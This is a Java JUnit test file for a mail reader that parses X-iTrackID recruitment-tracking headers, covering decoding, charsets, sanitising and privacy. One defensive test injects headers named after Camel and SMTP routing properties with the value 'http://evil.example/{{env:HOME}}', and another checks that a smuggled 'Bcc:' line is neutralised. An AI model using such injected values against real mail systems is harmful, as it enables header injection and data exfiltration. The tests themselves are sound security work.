package org.applicantrelay.mail;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TrackHeadersTest {

    private static final Charset WINDOWS = Charset.forName("windows-1252");

    @Test
    void quirk19TheRealBlockInItsOlderSpellingIsRead() throws Exception {
        assertThat(head(
                        "X-Itrackid-ClientReference: Some-CUSTOM-Ref",
                        "X-Itrackid: 33139609",
                        "X-Itrackid-Portalid: 517",
                        "X-Itrackid-Portal-Name: idibu Developer Board",
                        "X-Itrackid-Clientsettingsid: 602",
                        "X-Itrackid-Clientsettings-Name: Steve Walker (steve@idibu.com)",
                        "X-Itrackid-Postlogid: 333064639",
                        "X-Itrackid-Jobid: 33007724",
                        "X-Itrackid-Title: Financial Services Roles",
                        "X-Itrackid-Reference: testref123",
                        "X-Itrackid-Type: 2 Permanent"))
                .isEqualTo(new TrackHeaders(
                        "33139609",
                        null,
                        new TrackHeaders.Portal("517", "idibu Developer Board"),
                        new TrackHeaders.User("602", "Steve Walker", "steve@idibu.com"),
                        null,
                        null,
                        "333064639",
                        new TrackHeaders.Job("33007724", "Financial Services Roles", "testref123"),
                        new TrackHeaders.JobType("2", "Permanent"),
                        "Some-CUSTOM-Ref"));
    }

    @Test
    void allHeadersOfTodayAreThereInJsonAndWhatIsMissingIsNot() throws Exception {
        TrackHeaders all = head(
                "X-iTrackID: 1",
                "X-iTrackID-ClientID: 2",
                "X-iTrackID-PortalID: 3",
                "X-iTrackID-Portal-Name: Reed",
                "X-iTrackID-ClientSettingsID: 4",
                "X-iTrackID-ClientSettings-Name: Kara Smith (karas@idibu.com)",
                "X-iTrackID-Office: Leeds",
                "X-iTrackID-Team: Finance",
                "X-iTrackID-PostLogID: 5",
                "X-iTrackID-JobID: 6",
                "X-iTrackID-Title: Clerk",
                "X-iTrackID-Reference: SP1507-46/3",
                "X-iTrackID-Type: 2 Permanent",
                "X-iTrackID-ClientReference: V-7");

        assertThat(json(all))
                .isEqualTo("{\"trackId\":\"1\",\"clientId\":\"2\",\"portal\":{\"id\":\"3\",\"name\":\"Reed\"},"
                        + "\"user\":{\"id\":\"4\",\"name\":\"Kara Smith\",\"email\":\"karas@idibu.com\"},"
                        + "\"office\":\"Leeds\",\"team\":\"Finance\",\"postLogId\":\"5\","
                        + "\"job\":{\"id\":\"6\",\"title\":\"Clerk\",\"reference\":\"SP1507-46/3\"},"
                        + "\"jobType\":{\"id\":\"2\",\"name\":\"Permanent\"},\"clientReference\":\"V-7\"}");
        assertThat(json(head("X-iTrackID: 1", "X-iTrackID-Office:", "X-iTrackID-Title: Clerk")))
                .isEqualTo("{\"trackId\":\"1\",\"job\":{\"title\":\"Clerk\"}}");
        assertThat(json(head("Subject: nothing"))).isEqualTo("{}");
    }

    @ParameterizedTest
    @CsvSource(
            nullValues = "-",
            value = {
                "Kara Smith (karas@idibu.com), Kara Smith, karas@idibu.com",
                "Kara Smith <karas@idibu.com>, Kara Smith, karas@idibu.com",
                "Kara (Kaz) Smith (karas@idibu.com), Kara (Kaz) Smith, karas@idibu.com",
                "(karas@idibu.com), -, karas@idibu.com",
                "karas@idibu.com, -, karas@idibu.com",
                "Kara Smith, Kara Smith, -",
                "Kara Smith (), Kara Smith (), -"
            })
    void quirk21AUserIsNameAndAddress(String value, String name, String email) throws Exception {
        assertThat(head("X-iTrackID-ClientSettings-Name: " + value).user())
                .isEqualTo(new TrackHeaders.User(null, name, email));
    }

    @ParameterizedTest
    @CsvSource(
            nullValues = "-",
            value = {"2 Permanent, 2, Permanent", "12  Fixed term, 12, Fixed term", "2, 2, -", "Temp, -, Temp"})
    void quirk21AJobTypeIsIdAndName(String value, String id, String name) throws Exception {
        assertThat(head("X-iTrackID-Type: " + value).jobType()).isEqualTo(new TrackHeaders.JobType(id, name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"X-iTrackID", "X-ITRACKID", "x-itrackid", "X-Itrackid "})
    void anySpellingOfTheNameCounts(String name) throws Exception {
        assertThat(head(name + ": 7").trackId()).isEqualTo("7");
        assertThat(head(name + ":7").trackId()).isEqualTo("7");
    }

    @ParameterizedTest
    @CsvSource({
        "=?utf-8?B?Q2Fmw6kgb3duZXI=?=, Caf\u00e9 owner",
        "=?ISO-8859-1?q?Caf=E9_owner?=, Caf\u00e9 owner",
        "=?utf-8*en?Q?Caf=C3=A9_owner?=, Caf\u00e9 owner",
        // One character cut in two words.
        "'=?utf-8?Q?Caf=C3?=\r\n =?UTF-8?Q?=A9_owner?=', Caf\u00e9 owner",
        "'=?utf-8?Q?Caf=C3=A9?=\r\n\t=?iso-8859-1?Q?_=E9?= x', Caf\u00e9 \u00e9 x",
        "'Caf=?utf-8?Q?=C3=A9?= owner', Caf\u00e9 owner",
        "=?no-such-charset?Q?Caf=C3=A9_owner?=, Caf\u00e9 owner",
        "=?no-such-charset?Q?Caf=E9_owner?=, Caf\u00e9 owner",
        "=?utf-8?B?Q2Fmw6kgb3duZXI?=, Caf\u00e9 owner",
        "'=?utf-8?Q?100=_sure?=', 100= sure",
        "'=?utf-8?X?Caf?= =?', =?utf-8?X?Caf?= =?",
        "'Financial\r\n Services\r\n\t Roles', Financial Services Roles"
    })
    void aValueIsUnfoldedAndDecodedWhateverItsCharset(String value, String title) throws Exception {
        assertThat(head("X-iTrackID-Title: " + value).job().title()).isEqualTo(title);
    }

    @Test
    void rawBytesAreUtf8AndElseWindows() throws Exception {
        for (Charset charset : List.of(StandardCharsets.UTF_8, WINDOWS)) {
            byte[] mail = "X-iTrackID-Title: Caf\u00e9 \u201cowner\u201d\r\n\r\n".getBytes(charset);

            assertThat(MailReader.head(new ByteArrayInputStream(mail))
                            .track()
                            .job()
                            .title())
                    .isEqualTo("Caf\u00e9 \u201cowner\u201d");
        }
    }

    @Test
    void controlCharactersAreGoneAndLongValuesCut() throws Exception {
        TrackHeaders headers = head(
                "X-iTrackID-Title: =?utf-8?Q?Clerk=0D=0ABcc:_a=00b=1Bc?=",
                "X-iTrackID-Reference: " + "\ud83d\ude00".repeat(900),
                "X-iTrackID-Office: " + "x".repeat(100_000));

        assertThat(headers.job().title()).isEqualTo("Clerk Bcc: abc");
        assertThat(headers.job().reference()).isEqualTo("\ud83d\ude00".repeat(500));
        assertThat(headers.office()).hasSize(1000);
        assertThat(head("X-iTrackID-Office: x" + "\ud83d\ude00".repeat(900)).office())
                .isEqualTo("x" + "\ud83d\ude00".repeat(499));
    }

    @Test
    void twoTrackIdsAreNoneAndOfOtherHeadersTheFirstCounts() throws Exception {
        ReadMail two = MailReader.head(new ByteArrayInputStream(Files.bytes(
                "X-iTrackID: 1",
                "x-itrackid: 2",
                "X-iTrackID-Reference:",
                "X-iTrackID-Reference: a",
                "X-iTrackID-Reference: b",
                "")));

        assertThat(two.track().trackId()).isNull();
        assertThat(two.trackIds()).containsExactly("1", "2");
        assertThat(two.track().job().reference()).isEqualTo("a");
        assertThat(head("X-iTrackID: 1", "X-Itrackid:  1 ", "X-iTrackID:").trackId())
                .isEqualTo("1");
    }

    @Test
    void noHeaderOfAStrangersChangesAnything() throws Exception {
        String[] honest = {"X-iTrackID: 1", "X-iTrackID-JobID: 6"};
        ByteArrayOutputStream hostile = new ByteArrayOutputStream();
        for (String name : List.of("CamelHttpUri", "CamelMailMoveTo", "CamelFileName", "mail.smtp.host")) {
            for (String spelling : List.of(name, name.toLowerCase(), name.toUpperCase(), "X-iTrackID-" + name)) {
                hostile.writeBytes(Files.bytes(spelling + ": http://evil.example/{{env:HOME}}"));
            }
        }
        hostile.writeBytes(Files.bytes(honest[0], honest[1], "", "Dear team"));

        assertThat(new Files().read(hostile.toByteArray()))
                .isEqualTo(new Files().read(honest[0], honest[1], "", "Dear team"));
    }

    @Test
    void nobodyIsPrinted() throws Exception {
        TrackHeaders headers = head("X-iTrackID: 1", "X-iTrackID-ClientSettings-Name: Kara Smith (karas@idibu.com)");
        ReadMail mail = new ReadMail(headers, List.of("1"), "Kara", "Kara", "Kara", 0, List.of());

        assertThat(List.of(headers, headers.user(), mail))
                .noneSatisfy(printed -> assertThat(printed.toString()).containsIgnoringCase("kara"));
        assertThat(headers).hasToString("track headers of applicant 1");
    }

    @Test
    void noValueThrows() {
        for (String value :
                List.of("=?", "=?=?=?", "=?utf-8?B?%%%?=", "=?utf-8?Q?=?=", "=?utf-8?Q?=F?=", "\u0000", "(", "<@>")) {
            assertThatCode(() -> head("X-iTrackID-Title: " + value, "X-iTrackID-ClientSettings-Name: " + value))
                    .as(value)
                    .doesNotThrowAnyException();
        }
    }

    private static TrackHeaders head(String... headers) throws Exception {
        return MailReader.head(new ByteArrayInputStream(Files.bytes(Files.lines(headers), "", "Dear team")))
                .track();
    }

    private static String json(TrackHeaders headers) throws Exception {
        return new ObjectMapper().writeValueAsString(headers);
    }
}
